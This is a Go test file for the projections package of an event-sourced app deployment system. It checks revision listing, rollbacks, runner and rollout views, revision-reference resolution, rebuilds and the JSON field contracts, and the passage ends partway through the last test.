package projections_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"maps"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/revline/revline/aggregates"
	"github.com/revline/revline/events"
	"github.com/revline/revline/projections"
)

// Revision ids are UUID v7-shaped; those of one test share 8-digit
// prefixes the way ids created within a minute do.
const (
	rev1 = "0195a1b2-1111-7000-8000-000000000001"
	rev2 = "0195a1b2-2222-7000-8000-000000000002"
	rev3 = "0195c3d4-3333-7000-8000-000000000003"
	rev4 = "0195c3d4-3399-7000-8000-000000000004"
	rev5 = "0195e5f6-5555-7000-8000-000000000005"
)

func TestListRevIsNewestFirstAndFlagsCurrent(t *testing.T) {
	t.Parallel()
	forEachStore(t, func(t *testing.T, f *fixture) {
		model := f.live()
		f.deploy("demo", rev1, "alice", codeSmall, runtimeA)
		createdAt1 := f.clock.Add(-time.Minute) // create came one command before complete
		f.create("demo", rev2, "bob", codeLarge, runtimeB)
		createdAt2 := f.clock

		revs := f.caughtUp(model).Revisions("demo")
		if got, want := ids(revs), []string{rev2, rev1}; !slices.Equal(got, want) {
			t.Fatalf("Revisions order = %v, want %v", got, want)
		}
		want := []projections.RevisionView{
			{
				Number: 2, RevisionID: rev2, Status: events.StatusDeploying, Current: false,
				CreatedAt: createdAt2, CreatedBy: "bob", CodeParams: codeLarge, RuntimeParams: runtimeB,
				Message: "deploy " + rev2, Annotations: map[string]string{"git_sha": "sha-" + rev2},
				Command: "python serve.py --rev " + rev2,
			},
			{
				Number: 1, RevisionID: rev1, Status: events.StatusDeployed, Current: true,
				CreatedAt: createdAt1, CreatedBy: "alice", CodeParams: codeSmall, RuntimeParams: runtimeA,
				Message: "deploy " + rev1, Annotations: map[string]string{"git_sha": "sha-" + rev1},
				Command: "python serve.py --rev " + rev1,
			},
		}
		for i := range want {
			if !revs[i].CreatedAt.Equal(want[i].CreatedAt) {
				t.Errorf("%s CreatedAt = %v, want %v", want[i].RevisionID, revs[i].CreatedAt, want[i].CreatedAt)
			}
			revs[i].CreatedAt = want[i].CreatedAt
			if !reflect.DeepEqual(revs[i], want[i]) {
				t.Errorf("revision %d:\n got %+v\nwant %+v", i, revs[i], want[i])
			}
		}

		f.complete("demo", rev2)
		revs = f.caughtUp(model).Revisions("demo")
		if got, want := ids(revs), []string{rev2, rev1}; !slices.Equal(got, want) {
			t.Fatalf("Revisions order after deploy = %v, want %v", got, want)
		}
		if !revs[0].Current || revs[0].Status != events.StatusDeployed || revs[1].Current {
			t.Errorf("after deploy: current flags %v/%v, status %s; want the new revision current and deployed",
				revs[0].Current, revs[1].Current, revs[0].Status)
		}
		// The deploy kept the app's runtime parameters.
		if revs[0].RuntimeParams != runtimeA || revs[1].RuntimeParams != runtimeA {
			t.Errorf("runtime after deploy = %+v / %+v, want both %+v", revs[0].RuntimeParams, revs[1].RuntimeParams, runtimeA)
		}
		app := mustApp(t, model, "demo")
		if app.CurrentRevision != rev2 || app.Revisions != 2 || app.RuntimeParams != runtimeA || !app.UpdatedAt.Equal(f.clock) {
			t.Errorf("App = %+v, want current %s, 2 revisions, runtime %+v, updated at %v", app, rev2, runtimeA, f.clock)
		}
	})
}

func TestListRevBreaksTimeTiesByIDNewestFirst(t *testing.T) {
	t.Parallel()
	f := newFixture(t, testContext(t), events.NewMemoryStore(), nil)
	// Two revisions created by one command share their creation time.
	f.append("demo", "alice",
		events.RevisionCreated{RevisionID: rev1, Command: "a"},
		events.RevisionCreated{RevisionID: rev2, Command: "b"})
	model := f.caughtUp(f.live())
	if got, want := ids(model.Revisions("demo")), []string{rev2, rev1}; !slices.Equal(got, want) {
		t.Errorf("Revisions = %v, want %v", got, want)
	}
}

func TestRollbackMovesCurrentAndKeepsRuntime(t *testing.T) {
	t.Parallel()
	forEachStore(t, func(t *testing.T, f *fixture) {
		model := f.live()
		f.deploy("demo", rev1, "alice", codeSmall, runtimeA)
		f.scale("demo", "alice", runtimeB)
		f.deploy("demo", rev2, "bob", codeLarge, runtimeC) // asks for C, keeps B
		if got := mustRevision(t, f.caughtUp(model), "demo", rev2).RuntimeParams; got != runtimeB {
			t.Fatalf("deployed revision runtime = %+v, want the kept %+v", got, runtimeB)
		}
		f.scale("demo", "bob", runtimeC)
		f.setRev("demo", rev1, "carol")
		f.caughtUp(model)

		r1, r2 := mustRevision(t, model, "demo", rev1), mustRevision(t, model, "demo", rev2)
		if !r1.Current || r2.Current {
			t.Fatalf("current flags = %v/%v, want %s current", r1.Current, r2.Current, rev1)
		}
		if r1.CodeParams != codeSmall || r1.RuntimeParams != runtimeC {
			t.Errorf("rolled-back revision: code %+v runtime %+v, want its own code %+v and the inherited runtime %+v",
				r1.CodeParams, r1.RuntimeParams, codeSmall, runtimeC)
		}
		if r2.RuntimeParams != runtimeC {
			t.Errorf("previous revision runtime = %+v, want the one it last ran with %+v", r2.RuntimeParams, runtimeC)
		}
		if app := mustApp(t, model, "demo"); app.CurrentRevision != rev1 || app.RuntimeParams != runtimeC {
			t.Errorf("App = %+v, want current %s with runtime %+v", app, rev1, runtimeC)
		}
		sw, ok := model.LastSwitch("demo")
		want := projections.SwitchView{
			From: rev2, To: rev1, Reason: "rollback", Strategy: events.StrategyRolling, Message: "roll back",
			Code: codeSmall, Runtime: runtimeC, Inherited: events.RuntimeParamNames, InheritedFrom: rev2,
			At: f.clock, By: "carol", Sequence: f.head,
		}
		if !ok || !sw.At.Equal(want.At) {
			t.Fatalf("LastSwitch = %+v, %v; want at %v", sw, ok, want.At)
		}
		sw.At = want.At
		if !reflect.DeepEqual(sw, want) {
			t.Errorf("LastSwitch:\n got %+v\nwant %+v", sw, want)
		}

		// Scaling now changes only the current revision's effective runtime.
		f.scale("demo", "carol", runtimeA)
		f.caughtUp(model)
		if got := mustRevision(t, model, "demo", rev1).RuntimeParams; got != runtimeA {
			t.Errorf("current revision runtime after scale = %+v, want %+v", got, runtimeA)
		}
		if got := mustRevision(t, model, "demo", rev2).RuntimeParams; got != runtimeC {
			t.Errorf("previous revision runtime after scale = %+v, want %+v", got, runtimeC)
		}
	})
}

func TestScaledCodeShowsOnCurrentUntilTheNextSwitch(t *testing.T) {
	t.Parallel()
	forEachStore(t, func(t *testing.T, f *fixture) {
		f.deploy("web", "r1", "alice", codeSmall, runtimeA)
		f.deploy("web", "r2", "alice", codeSmall, runtimeA)
		tuned := codeSmall
		tuned.MachineType = "GPU-B200"
		f.append("web", "bob", events.AppScaled{Before: runtimeA, After: runtimeA, CodeBefore: codeSmall, CodeAfter: tuned, Changed: []string{"machine_type"}})
		m := f.rebuild()
		if rev, _ := m.Revision("web", "r2"); rev.MachineType != "GPU-B200" {
			t.Fatalf("current revision shows machine %q, want the scaled GPU-B200", rev.MachineType)
		}
		f.setRev("web", "r1", "bob")
		f.setRev("web", "r2", "bob")
		m = f.rebuild()
		if rev, _ := m.Revision("web", "r2"); rev.MachineType != "GPU-A100" {
			t.Fatalf("after switching back r2 shows machine %q, want its own GPU-A100", rev.MachineType)
		}
	})
}

func TestFailedDeployShowsFailedAndKeepsCurrent(t *testing.T) {
	t.Parallel()
	forEachStore(t, func(t *testing.T, f *fixture) {
		model := f.live()
		f.deploy("demo", rev1, "alice", codeSmall, runtimeA)
		f.create("demo", rev2, "bob", codeLarge, runtimeB)
		f.fail("demo", rev2, "health check timed out after 600s")
		f.caughtUp(model)

		failed := mustRevision(t, model, "demo", rev2)
		if failed.Status != events.StatusFailed || failed.Current || failed.FailReason != "health check timed out after 600s" {
			t.Errorf("failed revision = %+v, want failed, not current, with its reason", failed)
		}
		if failed.RuntimeParams != runtimeB {
			t.Errorf("never-current revision runtime = %+v, want what its deploy asked for %+v", failed.RuntimeParams, runtimeB)
		}
		if cur := mustRevision(t, model, "demo", rev1); !cur.Current || cur.Status != events.StatusDeployed {
			t.Errorf("previous revision = %+v, want still current and deployed", cur)
		}
		if app := mustApp(t, model, "demo"); app.CurrentRevision != rev1 || app.RuntimeParams != runtimeA {
			t.Errorf("App = %+v, want alias still on %s with runtime %+v", app, rev1, runtimeA)
		}
		if sw, _ := model.LastSwitch("demo"); sw.To != rev1 {
			t.Errorf("LastSwitch.To = %q, want %q", sw.To, rev1)
		}
	})
}

// A rollback while a deploy is in flight wins: the deploy completes
// (revision.deployed with rolled_back_to, no switch) and the revision is
// deployed but not current, live and rebuilt alike.
func TestDeployOvertakenByARollbackIsDeployedButNotCurrent(t *testing.T) {
	t.Parallel()
	forEachStore(t, func(t *testing.T, f *fixture) {
		model := f.live()
		f.deploy("demo", rev1, "alice", codeSmall, runtimeA)
		f.deploy("demo", rev2, "alice", codeSmall, runtimeA)
		f.create("demo", rev3, "bob", codeLarge, runtimeB)
		f.setRev("demo", rev1, "carol")
		f.append("demo", "worker:runner", events.RevisionDeployed{RevisionID: rev3, RolledBackTo: rev1})
		for name, m := range map[string]*projections.RevisionHistory{"live": f.caughtUp(model), "rebuilt": f.rebuild()} {
			if r3 := mustRevision(t, m, "demo", rev3); r3.Status != events.StatusDeployed || r3.Current || r3.RolledBackTo != rev1 {
				t.Errorf("%s: overtaken revision = %+v, want deployed, not current, left behind for %s", name, r3, rev1)
			}
			if r1 := mustRevision(t, m, "demo", rev1); !r1.Current {
				t.Errorf("%s: rolled-back-to revision = %+v, want current", name, r1)
			}
			if app := mustApp(t, m, "demo"); app.CurrentRevision != rev1 || app.RuntimeParams != runtimeA {
				t.Errorf("%s: App = %+v, want current %s with runtime %+v", name, app, rev1, runtimeA)
			}
			if sw, _ := m.LastSwitch("demo"); sw.To != rev1 || sw.By != "carol" {
				t.Errorf("%s: LastSwitch = %+v, want carol's rollback to %s", name, sw, rev1)
			}
		}
		// Made current later, it is no longer one left behind.
		f.setRev("demo", rev3, "carol")
		if r3 := mustRevision(t, f.caughtUp(model), "demo", rev3); !r3.Current || r3.RolledBackTo != "" {
			t.Errorf("after set-rev to it: %+v, want current and rolled_back_to cleared", r3)
		}
	})
}

func TestDeletedRevisionHiddenFromListButFoundByID(t *testing.T) {
	t.Parallel()
	forEachStore(t, func(t *testing.T, f *fixture) {
		model := f.live()
		f.deploy("demo", rev1, "alice", codeSmall, runtimeA)
		f.deploy("demo", rev2, "alice", codeSmall, runtimeA)
		f.deleteRev("demo", rev1, "bob")
		f.caughtUp(model)

		if got := ids(model.Revisions("demo")); !slices.Equal(got, []string{rev2}) {
			t.Errorf("Revisions = %v, want only %s", got, rev2)
		}
		deleted := mustRevision(t, model, "demo", rev1)
		if !deleted.Deleted || deleted.Status != events.StatusDeployed || deleted.Current {
			t.Errorf("deleted revision = %+v, want deleted, deployed, not current", deleted)
		}
		if mustRevision(t, model, "demo", rev2).Deleted {
			t.Errorf("live revision reported deleted")
		}
		if app := mustApp(t, model, "demo"); app.Revisions != 1 {
			t.Errorf("App.Revisions = %d, want 1", app.Revisions)
		}
	})
}

func TestSuspendedAppShowsSuspendedOnCurrent(t *testing.T) {
	t.Parallel()
	forEachStore(t, func(t *testing.T, f *fixture) {
		model := f.live()
		f.deploy("demo", rev1, "alice", codeSmall, runtimeA)
		f.deploy("demo", rev2, "alice", codeSmall, runtimeA)
		f.suspend("demo")
		f.caughtUp(model)

		statuses := func() []events.RevisionStatus {
			var out []events.RevisionStatus
			for _, r := range model.Revisions("demo") {
				out = append(out, r.Status)
			}
			return out
		}
		if got, want := statuses(), []events.RevisionStatus{events.StatusSuspended, events.StatusDeployed}; !slices.Equal(got, want) {
			t.Errorf("suspended: statuses = %v, want %v", got, want)
		}
		if !mustApp(t, model, "demo").Suspended {
			t.Errorf("App.Suspended = false while suspended")
		}

		f.resume("demo")
		f.caughtUp(model)
		if got, want := statuses(), []events.RevisionStatus{events.StatusDeployed, events.StatusDeployed}; !slices.Equal(got, want) {
			t.Errorf("resumed: statuses = %v, want %v", got, want)
		}
		if mustApp(t, model, "demo").Suspended {
			t.Errorf("App.Suspended = true after resume")
		}
	})
}

func TestAppsListsEveryAppByName(t *testing.T) {
	t.Parallel()
	forEachStore(t, func(t *testing.T, f *fixture) {
		model := f.live()
		f.deploy("zeta", rev1, "alice", codeSmall, runtimeA)
		f.deploy("alpha", rev2, "alice", codeLarge, runtimeB)
		f.create("alpha", rev3, "alice", codeLarge, runtimeC)
		f.suspend("zeta")
		suspendedAt := f.clock
		f.runner("zeta", "r1", rev1, events.RunnerRunning, 10, 8000) // a runner report is no app change
		f.caughtUp(model)

		apps := model.Apps()
		var names []string
		for _, a := range apps {
			names = append(names, a.Name)
		}
		if want := []string{"alpha", "zeta"}; !slices.Equal(names, want) {
			t.Fatalf("Apps = %v, want %v", names, want)
		}
		alpha, zeta := apps[0], apps[1]
		if alpha.CurrentRevision != rev2 || alpha.Revisions != 2 || alpha.RuntimeParams != runtimeB || alpha.Suspended || alpha.Runners != 0 {
			t.Errorf("alpha = %+v", alpha)
		}
		if zeta.CurrentRevision != rev1 || zeta.Revisions != 1 || !zeta.Suspended || zeta.Runners != 1 || !zeta.UpdatedAt.Equal(suspendedAt) {
			t.Errorf("zeta = %+v, want suspended with 1 runner, updated at %v", zeta, suspendedAt)
		}
		if _, ok := model.App("missing"); ok {
			t.Errorf("App(missing) found")
		}
		if revs := model.Revisions("missing"); len(revs) != 0 {
			t.Errorf("Revisions(missing) = %v", revs)
		}
	})
}

// An app's last change is the doing of whoever asked for it: what the
// runner worker reports of a deploy or a rollout is the requester's, a
// runner report is no change.
func TestAppSaysWhoChangedItLast(t *testing.T) {
	t.Parallel()
	forEachStore(t, func(t *testing.T, f *fixture) {
		model := f.live()
		by := func() string {
			t.Helper()
			return mustApp(t, f.caughtUp(model), "web").UpdatedBy
		}
		steps := []struct {
			what string
			do   func()
			want string
		}{
			{"a deploy, completed by the worker", func() { f.deploy("web", rev1, "alice", codeSmall, runtimeA) }, "alice"},
			{"a scale", func() { f.scale("web", "carol", runtimeB) }, "carol"},
			{"a runner report", func() { f.runner("web", "r1", rev1, events.RunnerRunning, 10, 8000) }, "carol"},
			{"a rollout's request", func() { f.rollout("web", "ro1", false) }, "alice"},
			{"a rollout's end, reported by the worker", func() { f.scale("web", "carol", runtimeC); f.completeRollout("web", "ro1", false, 1, 0) }, "alice"},
			{"a failed deploy, reported by the worker", func() { f.create("web", rev2, "bob", codeLarge, runtimeA); f.fail("web", rev2, "exit 1") }, "bob"},
			{"a rollback", func() { f.deploy("web", rev3, "alice", codeSmall, runtimeA); f.setRev("web", rev1, "dave") }, "dave"},
			{"a delete", func() { f.deleteRev("web", rev2, "erin") }, "erin"},
		}
		for _, step := range steps {
			step.do()
			if got := by(); got != step.want {
				t.Errorf("after %s, the app was last changed by %q; want %q", step.what, got, step.want)
			}
		}
	})
}

func TestRunnersView(t *testing.T) {
	t.Parallel()
	forEachStore(t, func(t *testing.T, f *fixture) {
		model := f.live()
		f.deploy("demo", rev1, "alice", codeSmall, runtimeA)
		f.runner("demo", "r1", rev1, events.RunnerPending, 0, 0)
		r1Started := f.clock
		f.runner("demo", "r1", rev1, events.RunnerRunning, 101, 8001)
		f.deploy("demo", rev2, "alice", codeSmall, runtimeA)
		f.runner("demo", "r2", rev2, events.RunnerRunning, 102, 8002)
		f.runner("demo", "r1", rev1, events.RunnerDraining, 101, 8001)
		f.runner("demo", "r1", rev1, events.RunnerTerminated, 0, 0)
		r1Ended := f.clock
		f.runner("demo", "r3", rev2, events.RunnerSetup, 103, 8003)
		f.caughtUp(model)

		runnerIDs := func(rs []projections.RunnerView) []string {
			var out []string
			for _, r := range rs {
				out = append(out, r.RunnerID)
			}
			return out
		}
		if got := runnerIDs(model.Runners("demo", false)); !slices.Equal(got, []string{"r2", "r3"}) {
			t.Errorf("Runners(live) = %v, want [r2 r3]", got)
		}
		all := model.Runners("demo", true)
		if got := runnerIDs(all); !slices.Equal(got, []string{"r1", "r2", "r3"}) {
			t.Fatalf("Runners(all) = %v, want [r1 r2 r3]", got)
		}
		r1 := all[0]
		if !r1.Terminated() || r1.State != events.RunnerTerminated || r1.RevisionID != rev1 || r1.PID != 101 || r1.Port != 8001 {
			t.Errorf("r1 = %+v, want terminated on %s keeping pid 101 and port 8001", r1, rev1)
		}
		if !r1.StartedAt.Equal(r1Started) || !r1.UpdatedAt.Equal(r1Ended) {
			t.Errorf("r1 started %v updated %v, want %v and %v", r1.StartedAt, r1.UpdatedAt, r1Started, r1Ended)
		}
		if r3 := all[2]; r3.State != events.RunnerSetup || r3.PID != 103 || r3.Port != 8003 || r3.Terminated() {
			t.Errorf("r3 = %+v", r3)
		}
		if got := mustRevision(t, model, "demo", rev2).Runners; got != 2 {
			t.Errorf("runners of %s = %d, want 2", rev2, got)
		}
		if got := mustRevision(t, model, "demo", rev1).Runners; got != 0 {
			t.Errorf("runners of %s = %d, want 0 (its runner terminated)", rev1, got)
		}
		if got := mustApp(t, model, "demo").Runners; got != 2 {
			t.Errorf("App.Runners = %d, want 2", got)
		}
	})
}

// A runner that crashes and comes back under its id shows how often it
// did and why the last time; it is crash_backoff in between.
func TestRunnerViewCountsRestarts(t *testing.T) {
	t.Parallel()
	forEachStore(t, func(t *testing.T, f *fixture) {
		model := f.live()
		f.deploy("demo", rev1, "alice", codeSmall, runtimeA)
		f.runner("demo", "r1", rev1, events.RunnerIdle, 101, 8001)
		crash := func(reason string) {
			f.append("demo", "worker:runner", events.RunnerStateChanged{RunnerID: "r1", RevisionID: rev1, State: events.RunnerCrashBackoff, PID: 101, Port: 8001, Reason: reason})
		}
		crash("exited: exit status 3; restarting in 1s")
		f.caughtUp(model)
		if r := model.Runners("demo", false)[0]; r.State != events.RunnerCrashBackoff || r.Restarts != 1 {
			t.Fatalf("after one crash: %+v", r)
		}
		// The revision shows it is crash-looping.
		if v := mustRevision(t, model, "demo", rev1); v.CrashBackoff != 1 || v.Restarts != 1 || v.LastCrash != "exited: exit status 3; restarting in 1s" {
			t.Fatalf("revision of a crashing runner: crash_backoff %d, restarts %d, last crash %q", v.CrashBackoff, v.Restarts, v.LastCrash)
		}
		f.runner("demo", "r1", rev1, events.RunnerIdle, 102, 8002)
		crash("exited: signal: killed; restarting in 2s")
		f.runner("demo", "r1", rev1, events.RunnerIdle, 103, 8003)
		f.caughtUp(model)
		r := model.Runners("demo", false)[0]
		if r.State != events.RunnerIdle || r.Restarts != 2 || r.LastCrash != "exited: signal: killed; restarting in 2s" || r.PID != 103 {
			t.Fatalf("after two crashes and restarts: %+v", r)
		}
		if v := mustRevision(t, model, "demo", rev1); v.CrashBackoff != 0 || v.Restarts != 2 {
			t.Fatalf("revision after its runner came back: crash_backoff %d, restarts %d", v.CrashBackoff, v.Restarts)
		}
	})
}

func TestRolloutsView(t *testing.T) {
	t.Parallel()
	forEachStore(t, func(t *testing.T, f *fixture) {
		model := f.live()
		f.deploy("demo", rev1, "alice", codeSmall, runtimeA)
		f.rollout("demo", "ro1", false)
		f.caughtUp(model)
		if ro, ok := model.Rollout("demo", "ro1"); !ok || ro.Status != projections.RolloutActive || ro.RevisionID != rev1 || ro.RequestedBy != "alice" {
			t.Errorf("Rollout(ro1) = %+v, %v; want active on %s by alice", ro, ok, rev1)
		}
		if ro, ok := model.ActiveRollout("demo"); !ok || ro.RolloutID != "ro1" {
			t.Errorf("ActiveRollout = %+v, %v; want ro1", ro, ok)
		}

		f.completeRollout("demo", "ro1", false, 3, 0)
		completedAt := f.clock
		f.rollout("demo", "ro2", false)
		f.rollout("demo", "ro3", true)
		f.completeRollout("demo", "ro3", true, 2, 5)
		f.caughtUp(model)

		ro1, _ := model.Rollout("demo", "ro1")
		if ro1.Status != projections.RolloutCompleted || ro1.Replaced != 3 || ro1.DroppedRequests != 0 || !ro1.CompletedAt.Equal(completedAt) {
			t.Errorf("ro1 = %+v, want completed at %v with 3 replaced", ro1, completedAt)
		}
		ro2, _ := model.Rollout("demo", "ro2")
		if ro2.Status != projections.RolloutSuperseded || ro2.SupersededBy != "ro3" {
			t.Errorf("ro2 = %+v, want superseded by ro3", ro2)
		}
		ro3, _ := model.Rollout("demo", "ro3")
		if ro3.Status != projections.RolloutCompleted || !ro3.Force || ro3.Replaced != 2 || ro3.DroppedRequests != 5 {
			t.Errorf("ro3 = %+v, want a completed force rollout, 2 replaced, 5 dropped", ro3)
		}
		if _, ok := model.ActiveRollout("demo"); ok {
			t.Errorf("ActiveRollout found after the last rollout completed")
		}
		var order []string
		for _, ro := range model.Rollouts("demo") {
			order = append(order, ro.RolloutID)
		}
		if want := []string{"ro3", "ro2", "ro1"}; !slices.Equal(order, want) {
			t.Errorf("Rollouts = %v, want %v", order, want)
		}
		if _, ok := model.Rollout("demo", "nope"); ok {
			t.Errorf("Rollout(nope) found")
		}
	})
}

func TestResolveRevision(t *testing.T) {
	t.Parallel()
	f := newFixture(t, testContext(t), events.NewMemoryStore(), nil)
	for _, id := range []string{rev5, rev4, rev1, rev2, rev3} {
		f.deploy("demo", id, "alice", codeSmall, runtimeA)
	}
	f.deleteRev("demo", rev4, "alice")
	f.deleteRev("demo", rev5, "alice")
	model := f.caughtUp(f.live())

	tests := []struct {
		name    string
		app     string
		ref     string
		want    string
		wantErr error
	}{
		{"full_id", "demo", rev1, rev1, nil},
		{"full_id_of_deleted_revision", "demo", rev4, rev4, nil},
		{"unique_prefix", "demo", "0195a1b2-11", rev1, nil},
		{"prefix_of_exactly_8", "demo", "0195e5f6", rev5, nil},
		{"prefix_ignores_case", "demo", "0195A1B2-2222", rev2, nil},
		{"live_revision_preferred_over_deleted", "demo", "0195c3d4", rev3, nil},
		{"deleted_only_match", "demo", "0195c3d4-339", rev4, nil},
		{"ambiguous_prefix", "demo", "0195a1b2", "", aggregates.ErrAmbiguousRevision},
		{"too_short", "demo", "0195a1b", "", aggregates.ErrRevisionRefTooShort},
		{"empty", "demo", "", "", aggregates.ErrRevisionRefTooShort},
		{"no_match", "demo", "ffffffff", "", aggregates.ErrRevisionNotFound},
		{"longer_than_any_id", "demo", rev1 + "0", "", aggregates.ErrRevisionNotFound},
		{"unknown_app", "other", rev1, "", projections.ErrAppNotFound},
		// Numbers follow creation order: rev5 is v1, rev4 v2, rev1 v3, ...
		{"v_number", "demo", "v3", rev1, nil},
		{"upper_case_v_number", "demo", "V4", rev2, nil},
		{"bare_number", "demo", "5", rev3, nil},
		{"number_of_deleted_revision", "demo", "v1", rev5, nil},
		{"unknown_number", "demo", "v6", "", aggregates.ErrRevisionNotFound},
		{"number_zero", "demo", "0", "", aggregates.ErrRevisionNotFound},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			got, err := model.ResolveRevision(tt.app, tt.ref)
			if !errors.Is(err, tt.wantErr) || got != tt.want {
				t.Fatalf("ResolveRevision(%q, %q) = %q, %v; want %q, %v", tt.app, tt.ref, got, err, tt.want, tt.wantErr)
			}
			if err != nil && (strings.Contains(err.Error(), "\n") || !strings.Contains(err.Error(), tt.app)) {
				t.Errorf("error %q: want one line naming the app", err)
			}
		})
	}

	_, err := model.ResolveRevision("demo", "0195a1b2")
	var ambiguous *aggregates.AmbiguousRevisionError
	if !errors.As(err, &ambiguous) || !slices.Equal(ambiguous.Matches, []string{rev1, rev2}) {
		t.Errorf("ambiguous error = %#v, want matches [%s %s]", err, rev1, rev2)
	}
}

func TestReapplyingEnvelopesChangesNothing(t *testing.T) {
	t.Parallel()
	forEachStore(t, func(t *testing.T, f *fixture) {
		model := f.live()
		writeRichHistory(f)
		f.caughtUp(model)
		before := f.snapshot(model)

		apps := slices.Sorted(maps.Keys(f.apps))
		for _, app := range apps {
			history, err := f.store.Load(f.ctx, app, 0)
			if err != nil {
				t.Fatal(err)
			}
			for _, env := range history {
				if model.Apply(env) {
					t.Errorf("Apply(sequence %d) applied again", env.Sequence)
				}
			}
		}
		if model.Skip(1) {
			t.Errorf("Skip(1) moved the checkpoint back")
		}
		unstored := events.NewEnvelope("demo", events.RevisionDeleted{RevisionID: rev1}, events.Metadata{Actor: "x"}, f.clock)
		if model.Apply(unstored) {
			t.Errorf("Apply of an envelope that was never stored (sequence 0) applied")
		}
		if after := f.snapshot(model); !reflect.DeepEqual(before, after) {
			t.Errorf("re-applying changed the model:\nbefore %+v\n after %+v", before, after)
		}
	})
}

func TestWaitForReturnsOnceSequenceApplied(t *testing.T) {
	t.Parallel()
	forEachStore(t, func(t *testing.T, f *fixture) {
		model := projections.NewRevisionHistory()
		waited := make(chan error, 1)
		go func() { waited <- model.WaitFor(f.ctx, 2) }()

		f.create("demo", rev1, "alice", codeSmall, runtimeA) // sequence 1
		f.run(model)
		if err := model.WaitFor(f.ctx, 1); err != nil {
			t.Fatalf("WaitFor(1): %v", err)
		}
		select {
		case err := <-waited:
			t.Fatalf("WaitFor(2) returned %v at checkpoint %d", err, model.Checkpoint())
		default:
		}

		seq := f.complete("demo", rev1) // sequences 2 and 3
		select {
		case err := <-waited:
			if err != nil {
				t.Fatalf("WaitFor(2): %v", err)
			}
		case <-f.ctx.Done():
			t.Fatalf("WaitFor(2) still blocked at checkpoint %d", model.Checkpoint())
		}
		if err := model.WaitFor(f.ctx, seq); err != nil {
			t.Fatalf("WaitFor(%d): %v", seq, err)
		}
		// Read-your-write: once WaitFor returns, the write is visible.
		if app := mustApp(t, model, "demo"); app.CurrentRevision != rev1 {
			t.Errorf("after WaitFor: current = %q, want %q", app.CurrentRevision, rev1)
		}
	})
}

func TestWaitForReturnsContextErrorAtDeadline(t *testing.T) {
	t.Parallel()
	forEachStore(t, func(t *testing.T, f *fixture) {
		model := f.live()
		f.deploy("demo", rev1, "alice", codeSmall, runtimeA)
		f.caughtUp(model)

		ctx, cancel := context.WithTimeout(f.ctx, 20*time.Millisecond)
		defer cancel()
		err := model.WaitFor(ctx, f.head+1)
		if !errors.Is(err, context.DeadlineExceeded) {
			t.Errorf("WaitFor(unwritten sequence) = %v, want context.DeadlineExceeded", err)
		}

		done, cancelDone := context.WithCancel(f.ctx)
		cancelDone()
		if err := model.WaitFor(done, f.head); err != nil {
			t.Errorf("WaitFor(reached sequence) with an ended context = %v, want nil", err)
		}
	})
}

func TestRebuildEqualsLive(t *testing.T) {
	t.Parallel()
	forEachStore(t, func(t *testing.T, f *fixture) {
		live := f.live()
		mid := writeRichHistory(f)
		f.caughtUp(live)
		want := f.snapshot(live)

		if got := f.snapshot(f.rebuild()); !reflect.DeepEqual(got, want) {
			t.Errorf("rebuilt model differs from the live one:\n got %+v\nwant %+v", got, want)
		}

		// A model rebuilt part of the way resumes from its checkpoint.
		partial, err := projections.Rebuild(f.ctx, f.store, mid)
		if err != nil {
			t.Fatal(err)
		}
		if partial.Checkpoint() != mid {
			t.Fatalf("Rebuild(%d) checkpoint = %d", mid, partial.Checkpoint())
		}
		f.run(partial)
		if got := f.snapshot(f.caughtUp(partial)); !reflect.DeepEqual(got, want) {
			t.Errorf("resumed model differs from the live one:\n got %+v\nwant %+v", got, want)
		}
		if live.Skipped() != partial.Skipped() {
			t.Errorf("skipped: live %d, resumed %d", live.Skipped(), partial.Skipped())
		}

		empty, err := projections.Rebuild(f.ctx, f.store, 0)
		if err != nil || empty.Checkpoint() != 0 || len(empty.Apps()) != 0 {
			t.Errorf("Rebuild(0) = checkpoint %d, %d apps, %v; want an empty model", empty.Checkpoint(), len(empty.Apps()), err)
		}

		ctx, cancel := context.WithTimeout(f.ctx, 20*time.Millisecond)
		defer cancel()
		if _, err := projections.Rebuild(ctx, f.store, f.head+1); !errors.Is(err, context.DeadlineExceeded) {
			t.Errorf("Rebuild past the end of the log = %v, want context.DeadlineExceeded", err)
		}
	})
}

func TestUndecodableEventAdvancesCheckpoint(t *testing.T) {
	t.Parallel()
	t.Run("handle", func(t *testing.T) {
		t.Parallel()
		model := projections.NewRevisionHistory()
		if err := model.Handle(events.Envelope{Sequence: 5}, errors.New("bad payload")); err != nil {
			t.Fatalf("Handle: %v", err)
		}
		if model.Checkpoint() != 5 || model.Skipped() != 1 || len(model.Apps()) != 0 {
			t.Errorf("after skipping: checkpoint %d, skipped %d, apps %v", model.Checkpoint(), model.Skipped(), model.Apps())
		}
	})
	t.Run("jetstream", func(t *testing.T) {
		t.Parallel()
		ctx := testContext(t)
		store, js := openJetStream(t, ctx)
		f := newFixture(t, ctx, store, js)
		model := f.live()
		f.create("demo", rev1, "alice", codeSmall, runtimeA)
		garbage := f.publishGarbage()
		f.complete("demo", rev1)
		f.caughtUp(model)
		if model.Checkpoint() != f.head || model.Skipped() != 1 {
			t.Errorf("checkpoint %d (want %d), skipped %d (want 1, at sequence %d)", model.Checkpoint(), f.head, model.Skipped(), garbage)
		}
		if app := mustApp(t, model, "demo"); app.CurrentRevision != rev1 {
			t.Errorf("events after the undecodable one were not applied: %+v", app)
		}
	})
}

func TestViewsJSONContract(t *testing.T) {
	t.Parallel()
	f := newFixture(t, testContext(t), events.NewMemoryStore(), nil)
	f.deploy("demo", rev1, "alice", codeSmall, runtimeA)
	f.runner("demo", "r1", rev1, events.RunnerRunning, 101, 8001)
	model := f.caughtUp(f.live())

	tests := []struct {
		name string
		view any
		keys []string
	}{
		{"revision", mustRevision(t, model, "demo", rev1), []string{
			"number", "revision_id", "status", "current", "created_at", "created_by", "machine_type", "max_multiplexing",
			"startup_timeout", "keep_alive", "min_concurrency", "max_concurrency", "concurrency_buffer",
			"concurrency_buffer_perc", "scaling_delay",
			"request_timeout", "message", "annotations", "command", "runners", "crash_backoff", "restarts", "fail_reason", "deleted",
		}},
		{"runner", model.Runners("demo", true)[0], []string{
			"runner_id", "revision_id", "state", "started_at", "updated_at", "pid", "port", "in_flight", "restarts",
		}},
		{"app", mustApp(t, model, "demo"), []string{
			"name", "current_revision", "revisions", "runners", "suspended", "updated_at", "updated_by",
			"keep_alive", "min_concurrency", "max_concurrency", "concurrency_buffer", "concurrency_buffer_perc",
			"scaling_delay", "request_timeout",
		}},
	}
